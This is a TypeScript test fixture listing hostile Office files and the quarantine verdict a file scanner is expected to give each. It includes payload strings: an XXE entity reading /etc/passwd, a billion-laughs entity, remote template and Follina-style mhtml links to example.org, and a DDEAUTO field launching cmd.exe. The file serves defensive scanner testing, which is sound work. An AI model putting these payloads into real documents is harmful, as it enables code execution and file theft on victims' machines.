import * as make from '../file-builders.ts'
import { documentXml, docxWith, exe, type HostileFile, laughs, oleObject, settingsLink } from './parts.ts'

/** Office files that run, load or call something. */
export const office: HostileFile[] = [
  { name: 'macro.docx', bytes: docxWith({ name: 'word/vbaProject.bin', data: 'x' }), verdict: 'quarantined: macros' },
  {
    name: 'macro.docx',
    bytes: docxWith(make.contentTypes('word/document.xml', 'wordprocessingml.document.macroEnabled.main')),
    verdict: 'quarantined: macros',
  },
  {
    name: 'macro.xlsx',
    bytes: make.xlsx([{ name: 'xl/macrosheets/sheet1.xml', data: '<x/>' }]),
    verdict: 'quarantined: macros',
  },
  {
    name: 'xxe.docx',
    bytes: documentXml('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
    verdict: 'quarantined: suspicious_structure',
  },
  {
    name: 'laughs.docx',
    bytes: documentXml(`<!DOCTYPE a [<!ENTITY l0 "ha">${laughs}]><a>&l9;</a>`),
    verdict: 'quarantined: suspicious_structure',
  },
  {
    name: 'xxe-utf16.docx',
    bytes: docxWith({
      name: 'word/document.xml',
      data: Buffer.from('\ufeff<!DOCTYPE a SYSTEM "http://example.org/x">', 'utf16le'),
    }),
    verdict: 'quarantined: suspicious_structure',
  },
  {
    name: 'xxe-rels.docx',
    bytes: docxWith({ name: 'word/_rels/document.xml.rels', data: '<!DOCTYPE a><Relationships/>' }),
    verdict: 'quarantined: suspicious_structure',
  },
  {
    name: 'template.docx',
    bytes: settingsLink('attachedTemplate', 'https://example.org/x.dotm'),
    verdict: 'quarantined: external_content',
  },
  {
    name: 'template.docx',
    bytes: settingsLink('attachedTemplate', '\\\\example.org\\share\\x.dotm'),
    verdict: 'quarantined: external_content',
  },
  {
    name: 'template.docx',
    bytes: settingsLink('attachedTemplate', '&#104;ttps://example.org/x.dotm'),
    verdict: 'quarantined: external_content',
  },
  {
    name: 'template.docx',
    bytes: settingsLink('attachedTemplate', 'file://example.org/x.dotm'),
    verdict: 'quarantined: external_content',
  },
  {
    name: 'follina.docx',
    bytes: settingsLink('oleObject', 'mhtml:https://example.org/x.html!x-usc:https://example.org/x.html'),
    verdict: 'quarantined: external_content',
  },
  {
    name: 'dde.docx',
    bytes: documentXml(
      '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>',
    ),
    verdict: 'quarantined: active_content',
  },
  {
    name: 'activex.docx',
    bytes: docxWith({ name: 'word/activeX/activeX1.xml', data: '<x/>' }),
    verdict: 'quarantined: active_content',
  },
  {
    name: 'package.docx',
    bytes: docxWith({ name: 'word/embeddings/oleObject1.bin', data: oleObject }),
    verdict: 'quarantined: active_content',
  },
  {
    name: 'program.docx',
    bytes: docxWith({ name: 'word/embeddings/tool.exe', data: exe }),
    verdict: 'quarantined: active_content',
  },
  {
    name: 'program.docx',
    bytes: docxWith({ name: 'word/embeddings/tool.bin', data: exe }),
    verdict: 'quarantined: active_content',
  },
]
